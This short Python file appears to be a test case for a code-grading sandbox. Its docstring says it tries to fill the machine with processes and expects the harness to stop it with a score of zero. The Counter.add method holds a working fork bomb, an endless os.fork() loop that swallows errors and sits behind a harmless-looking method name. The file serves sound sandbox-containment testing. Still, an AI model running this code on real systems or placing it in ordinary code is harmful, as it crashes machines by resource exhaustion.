"""Tries: to fill the machine with processes that each start more.
Against: 01-toy (counts)
Must: score at most 0; unmet; says /was stopped|used up their CPU|ended by itself/; within 25 s
"""

import os


class Counter:
    def add(self, amount):
        while True:
            try:
                os.fork()
            except OSError:
                pass
